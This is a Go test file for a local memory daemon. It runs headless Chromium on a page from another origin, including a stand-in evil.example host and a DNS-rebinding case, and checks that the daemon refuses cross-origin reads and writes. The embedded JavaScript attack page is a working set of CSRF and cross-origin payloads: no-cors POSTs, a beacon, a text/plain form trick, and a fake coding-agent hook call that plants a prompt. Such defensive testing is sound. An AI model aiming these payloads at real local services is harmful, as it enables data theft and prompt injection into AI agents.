package server

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cmemd/cmemd/testkit/capturetest"
	"github.com/cmemd/cmemd/testkit/race"
)

// browser is a chromium on this machine, or "".
func browser() string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "headless_shell"} {
		if path, err := exec.LookPath(name); err == nil {
			return path
		}
	}
	return ""
}

// attack is a page that tries all that a page can: to read with fetch, with and without a token that it guessed, to post
// without asking first, to have an answer run as a script, shown in a frame or taken for a picture or a style, and to
// listen to events. What it got, it reports to its own origin; %[1]s is the daemon's address, %[2]s a token.
const attack = `<!doctype html><title>attack</title><body><script>
const at = "http://%[1]s", got = [];
const say = (what, text) => got.push(what + ":" + text);
const end = () => fetch("/report", {method: "POST", body: got.join("\n")}).then(() => { document.title = "done"; });
const tries = [
  ["get", () => fetch(at + "/v1/sessions").then(r => r.text())],
  ["token", () => fetch(at + "/v1/sessions", {headers: {Authorization: "Bearer %[2]s"}}).then(r => r.text())],
  ["opaque", () => fetch(at + "/v1/sessions", {mode: "no-cors", credentials: "include"}).then(r => r.text())],
  ["health", () => fetch(at + "/healthz").then(r => r.text())],
  ["post", () => fetch(at + "/v1/memories", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
    body: JSON.stringify({title: "planted by a page", text: "planted by a page"})}).then(r => r.text())],
  ["hook", () => fetch(at + "/v1/hooks/claude-code", {method: "POST", mode: "no-cors",
    body: JSON.stringify({hook_event_name: "UserPromptSubmit", session_id: "page", cwd: "/", prompt: "planted by a page"})}).then(r => r.text())],
  ["stop", () => fetch(at + "/v1/stop", {method: "POST", mode: "no-cors"}).then(r => r.text())],
  ["beacon", async () => { navigator.sendBeacon(at + "/v1/memories", JSON.stringify({title: "planted by a page", text: "x"})); return ""; }],
  ["events", () => new Promise((ok, no) => { const e = new EventSource(at + "/v1/events"); e.onmessage = m => ok(m.data); e.onerror = () => no("refused"); })],
  ["script", () => new Promise((ok, no) => { const s = document.createElement("script"); s.src = at + "/healthz"; s.onload = () => ok("it ran"); s.onerror = () => no("refused"); document.body.append(s); })],
  ["frame", () => new Promise((ok, no) => { const f = document.createElement("iframe"); f.src = at + "/healthz"; f.onload = () => {
    try { ok(f.contentDocument.body.innerText); } catch (e) { no("refused"); } }; document.body.append(f); })],
  ["form", async () => { const f = document.createElement("form"); f.method = "POST"; f.enctype = "text/plain"; f.action = at + "/v1/memories"; f.target = "w";
    const i = document.createElement("input"); i.name = '{"title":"planted by a page","text":"'; i.value = '"}'; f.append(i);
    const w = document.createElement("iframe"); w.name = "w"; document.body.append(w, f); f.submit(); await new Promise(ok => setTimeout(ok, 300)); return ""; }],
];
(async () => {
  for (const [what, attempt] of tries) {
    await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no("nothing in time"), 3000))])
      .then(text => { if (text) say(what, text); else say(what, "-"); }, e => say(what, "- " + e));
  }
  await end();
})();
</script>`

// TestABrowserGetsNothing has a real browser open a page of another origin, under a name of the page's choice too, that
// tries to read from the daemon and to write into it, even with its token.
func TestABrowserGetsNothing(t *testing.T) {
	race.SkipProcesses(t)
	if testing.Short() {
		t.Skip("starts a browser")
	}
	t.Parallel()
	program := browser()
	if program == "" {
		t.Skip("no chromium is installed")
	}
	w := newWorld(t, nil)
	w.work(t, "secret-session", "a prompt that no page may see", "/src/shop/a.go")
	before := len(w.records(t))
	page := &attacker{reports: make(chan string, 2), body: fmt.Sprintf(attack, w.tcp, testToken)}
	port := listenOn(t, page)
	_, own, err := net.SplitHostPort(w.tcp)
	if err != nil {
		t.Fatal(err)
	}
	for name, url := range map[string]string{
		"another port":  "http://127.0.0.1:" + port + "/",
		"another name":  "http://evil.example:" + port + "/",
		"rebound to us": "http://rebound.example:" + own + "/v1/sessions",
	} {
		dom := browse(t, program, url)
		if strings.Contains(dom, "secret-session") || strings.Contains(dom, "no page may see") {
			t.Errorf("%s: the page shows %s", name, dom)
		}
		if strings.HasPrefix(name, "rebound") {
			if !strings.Contains(dom, "loopback") {
				t.Errorf("%s: not refused for its host: %s", name, dom)
			}
			continue
		}
		select {
		case report := <-page.reports:
			t.Logf("%s:\n%s", name, report)
			for line := range strings.Lines(report) {
				if what, text, _ := strings.Cut(strings.TrimSpace(line), ":"); !strings.HasPrefix(text, "-") {
					t.Errorf("%s: by %s the page got %q", name, what, text)
				}
			}
			if n := strings.Count(report, "\n") + 1; n != 12 {
				t.Errorf("%s: %d attempts were reported", name, n)
			}
		case <-time.After(patience):
			t.Errorf("%s: the page did not come to its end: %s", name, dom)
		}
	}
	for _, r := range w.records(t)[before:] {
		e, err := r.Event()
		if text := capturetest.JSON(t, e); err != nil || strings.Contains(text, "planted") || strings.Contains(text, `"page"`) {
			t.Errorf("recorded: %s (%v)", text, err)
		}
	}
	if res := w.remote(t, nil); res.StatusCode != 200 {
		t.Errorf("afterwards the daemon answers %s", res.Status)
	}
}

// TestTheAttackIsOne: from a server without a guard the same page gets what it asks for, and brings what it wants to.
func TestTheAttackIsOne(t *testing.T) {
	race.SkipProcesses(t)
	if testing.Short() {
		t.Skip("starts a browser")
	}
	t.Parallel()
	program := browser()
	if program == "" {
		t.Skip("no chromium is installed")
	}
	var planted atomic.Int32
	open := listenOn(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for name, value := range map[string]string{"Allow-Origin": "*", "Allow-Headers": "*"} {
			w.Header().Set("Access-Control-"+name, value)
		}
		if body, _ := io.ReadAll(r.Body); strings.Contains(string(body), "planted") {
			planted.Add(1)
		}
		_, _ = io.WriteString(w, "0x0")
	}))
	page := &attacker{reports: make(chan string, 1), body: fmt.Sprintf(attack, "127.0.0.1:"+open, testToken)}
	dom := browse(t, program, "http://127.0.0.1:"+listenOn(t, page)+"/")
	select {
	case report := <-page.reports:
		for _, want := range []string{"get:0x0", "token:0x0", "health:0x0", "script:it ran"} {
			if !strings.Contains(report, want) {
				t.Errorf("not %s:\n%s", want, report)
			}
		}
	case <-time.After(patience):
		t.Errorf("the page did not come to its end: %s", dom)
	}
	if n := planted.Load(); n < 3 {
		t.Errorf("%d were planted", n)
	}
}

// listenOn serves h on a loopback port, which it returns, until the test ends.
func listenOn(t *testing.T, h http.Handler) (port string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: time.Minute}
	var all sync.WaitGroup
	all.Go(func() { _ = srv.Serve(l) })
	t.Cleanup(func() { srv.Close(); all.Wait() })
	if _, port, err = net.SplitHostPort(l.Addr().String()); err != nil {
		t.Fatal(err)
	}
	return port
}

// attacker serves the page, and takes its report.
type attacker struct {
	reports chan string
	body    string
}

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/report" {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(a.body))
		return
	}
	if report, err := io.ReadAll(r.Body); err == nil {
		a.reports <- string(report)
	}
}

// browse opens a page, and returns what it shows when its scripts have ended, or time is up. All names lead to this machine.
func browse(t *testing.T, program, url string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, program, "--headless", "--disable-gpu", "--no-sandbox", "--no-first-run", "--disable-extensions",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP *.example 127.0.0.1", "--virtual-time-budget=60000", "--dump-dom", url)
	cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%s: %v", url, err)
	}
	return string(out)
}
